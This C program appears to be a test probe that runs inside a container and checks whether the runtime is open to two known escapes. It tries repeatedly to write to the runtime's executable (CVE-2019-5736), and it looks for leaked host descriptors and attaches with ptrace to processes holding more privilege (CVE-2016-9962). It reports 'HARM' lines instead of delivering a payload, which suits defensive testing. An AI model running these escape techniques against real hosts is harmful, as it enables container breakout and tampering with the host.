// Runs inside a container and looks, as fast as it can, for a process whose
// executable is not of this container: that is the runtime on its way in. It
// keeps the executable by O_PATH and opens it for writing, again and again, also
// after the process has become another (CVE-2019-5736), and it looks for
// descriptors of other processes that lead out, and attaches to them and says
// when one has capabilities or a root that it has not (CVE-2016-9962).
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int held = -1;
static long attached;	// to whomever: also to processes of our own kind

static unsigned long long capabilities(const char *pid)
{
	char path[64], line[256];
	unsigned long long caps = 0;

	snprintf(path, sizeof path, "/proc/%s/status", pid);
	FILE *f = fopen(path, "re");
	while (f && fgets(line, sizeof line, f))
		sscanf(line, "CapPrm: %llx", &caps);
	if (f)
		fclose(f);
	return caps;
}

static void attach(const char *pid)
{
	pid_t p = atoi(pid);
	int status;

	if (ptrace(PTRACE_SEIZE, p, 0, 0) < 0)
		return;
	attached++;
	unsigned long long extra = capabilities(pid) & ~capabilities("self");
	if (extra)
		printf("HARM attached to %s, which has the capabilities %llx more than we\n", pid, extra);
	char path[64];
	struct stat root, mine;
	snprintf(path, sizeof path, "/proc/%s/root", pid);
	if (stat(path, &root) == 0 && stat("/", &mine) == 0 && (root.st_dev != mine.st_dev || root.st_ino != mine.st_ino))
		printf("HARM attached to %s, whose root is not ours\n", pid);
	fflush(stdout);
	ptrace(PTRACE_INTERRUPT, p, 0, 0);
	if (waitpid(p, &status, __WALL) == p && WIFSTOPPED(status))
		ptrace(PTRACE_DETACH, p, 0, 0);
}

static void look(const char *pid)
{
	char path[64];
	struct stat st;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0) {
		struct stat mine;
		if (!fstat(fd, &st) && !stat("/bin/busybox", &mine) && st.st_ino != mine.st_ino) {
			struct stat self;
			if (!stat("/proc/self/exe", &self) && st.st_ino != self.st_ino) {
				if (held >= 0)
					close(held);
				held = dup(fd);
			}
		}
		close(fd);
	}
	for (int n = 3; n < 32; n++) {
		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, n);
		int d = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK);
		if (d < 0)
			continue;
		if (faccessat(d, "canary-file", F_OK, 0) == 0) {
			printf("HARM a directory of the host through fd %d of %s\n", n, pid);
			fflush(stdout);
		}
		close(d);
	}
	attach(pid);
}

// Nobody runs it any more? Then it is not busy, and may be opened.
static void reopen(void)
{
	char again[64];

	if (held < 0)
		return;
	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
	int w = open(again, O_WRONLY | O_CLOEXEC);
	if (w < 0)
		return;
	lseek(w, 0, SEEK_END);
	if (write(w, "x", 1) == 1) {	// a sealed file in memory can be opened, and that is all
		printf("HARM wrote to the runtime's executable\n");
		fflush(stdout);
		exit(0);
	}
	close(w);
}

int main(void)
{
	int ready = open("/tmp/ready", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
	if (ready >= 0)
		close(ready);
	while (access("/tmp/stop", F_OK) != 0) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		for (struct dirent *e; (e = readdir(proc));)
			if (e->d_name[0] > '0' && e->d_name[0] <= '9' && strcmp(e->d_name, "1") && atoi(e->d_name) != getpid())
				look(e->d_name);
		closedir(proc);
		reopen();
	}
	printf("attached %ld times\n", attached);
	fflush(stdout);
	return 0;
}
